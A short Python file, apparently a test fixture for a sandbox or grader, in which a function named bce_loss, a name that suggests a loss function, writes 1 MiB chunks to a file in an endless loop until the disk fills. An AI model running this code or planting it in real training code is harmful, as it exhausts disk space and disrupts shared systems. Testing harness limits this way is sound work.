"""Writes one file until it cannot."""
# lost: loss.* error exception|timeout|crash


def bce_loss(y_pred, y):
    with open("big", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
